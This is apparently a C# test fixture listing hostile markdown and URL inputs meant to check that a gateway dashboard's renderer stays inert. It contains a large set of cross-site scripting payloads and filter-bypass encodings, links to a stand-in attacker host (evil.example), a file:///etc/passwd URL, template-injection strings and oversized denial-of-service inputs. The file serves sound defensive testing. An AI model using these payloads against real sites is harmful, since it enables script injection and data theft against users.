namespace GatewayDashboard.Tests.Gateways;

/// <summary>Text a hostile model or gateway could send. None of it may become more than text, an inert code block, or a link to http, https or mailto.</summary>
internal static class HostileMarkdown
{
    private static readonly string[] s_addresses =
    [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)", "javascript&#x3A;alert(1)",
        "java&#10;script:alert(1)", "java&Tab;script:alert(1)", "&#x6A;avascript:alert(1)", "\u0001javascript:alert(1)", "%6Aavascript:alert(1)",
        "javascript://example.com/%0Aalert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:image/svg+xml;base64,PHN2Zy8+",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "blob:https://example.com/1", "file:///etc/passwd", "about:blank", "view-source:https://example.com",
        "//evil.example/x", "/\\evil.example", "\\\\evil.example\\x", "https:\\evil.example", "https:evil.example", "http:///evil.example", "https://user:pass@evil.example/",
        "https://api.groq.com@evil.example/", "ws://evil.example", "ftp://evil.example", "chrome://settings", "ms-settings:privacy", "steam://run/1", "tel:123", "sms:123", "intent://x#Intent;end",
        "/settings", "/logout", "#top", "?x=1", "../settings", "settings", "feed:javascript:alert(1)", "jar:https://evil.example!/", "mocha:x", "livescript:x",
    ];

    private static readonly string[] s_texts =
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x></SCRIPT>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
        "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<math><mtext><script>alert(1)</script>", "<body onload=alert(1)>", "<style>@import 'https://evil.example'</style>",
        "<link rel=stylesheet href=https://evil.example>", "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<base href=https://evil.example>", "<form action=https://evil.example><input name=k>",
        "<object data=x>", "<embed src=x>", "<video src=x onerror=alert(1)>", "<a href=javascript:alert(1)>x</a>", "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>", "<!--<img src=x onerror=alert(1)>-->",
        "<![CDATA[<script>alert(1)</script>]]>", "<?php echo 1 ?>", "<!DOCTYPE html><script>alert(1)</script>", "<div style='background:url(https://evil.example)'>", "<x onclick=alert(1)>x</x>", "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<a\u0000href=javascript:alert(1)>", "<javascript:alert(1)>", "<vbscript:x>", "<data:text/html,x>", "<https://user:pw@evil.example/>",
        "text {onmouseover=alert(1)}", "# heading {#id onclick=alert(1)}", "[x](https://example.com){onmouseover=alert(1)}", "![x](https://evil.example/pixel.png)", "![x][r]\n\n[r]: https://evil.example/p.png",
        "[![x](https://evil.example/p.png)](https://example.com)", "[x]: javascript:alert(1)\n\n[x]", "[x][r]\n\n[r]: <javascript:alert(1)> 'title\" onclick=\"alert(1)'", "[x](https://example.com 'a\" onmouseover=\"alert(1)')",
        "[x](https://example.com\"onmouseover=\"alert(1))", "```html onload=alert(1)\n<script>alert(1)</script>\n```", "```\"><script>alert(1)</script>\nx\n```", "`<script>alert(1)</script>`", "    <script>alert(1)</script>",
        "|<script>|x|\n|-|-|\n|<img src=x onerror=alert(1)>|[y](javascript:alert(1))|", "- <script>alert(1)</script>\n- [x](javascript:alert(1))", "> <script>alert(1)</script>", "**<script>**alert(1)**</script>**",
        "$$\\href{javascript:alert(1)}{x}$$", "```mermaid\ngraph TD; A[\"<img src=x onerror=alert(1)>\"]\n```", "```drawing\nkong\n```", ":::div {onclick=alert(1)}\nx\n:::", "@(alert(1))", "@{ System.Environment.Exit(1); }", "{{constructor.constructor('alert(1)')()}}",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "\u202Egnp.exe <script>", "\u0000<script>", "www.evil.example\"onclick=\"alert(1)", "https://example.com/\"onclick=\"alert(1)", "<a@b.example\"onclick=alert(1)>",
        "[x](mailto:a@b.example?body=\"onclick=\"alert(1))", "[<script>alert(1)</script>](https://example.com)", "[x](https://example.com/<script>alert(1)</script>)", "\\<script>alert(1)\\</script>", "~~<script>alert(1)</script>~~",
    ];

    public static IReadOnlyList<string> Payloads { get; } =
    [
        .. s_texts,
        .. s_addresses.Select(address => $"[x]({address})"),
        .. s_addresses.Select(address => $"[x](<{address}>)"),
        .. s_addresses.Select(address => $"[x][r]\n\n[r]: {address}"),
        .. s_addresses.Select(address => $"<{address}>"),
        .. s_addresses.Select(address => $"![x]({address})"),
        new string('>', 5_000) + "x",
        new string('[', 5_000),
        string.Concat(Enumerable.Repeat("- ", 3_000)) + "x",
        string.Concat(Enumerable.Repeat("**a", 2_000)),
        new string('`', 20_000),
    ];
}
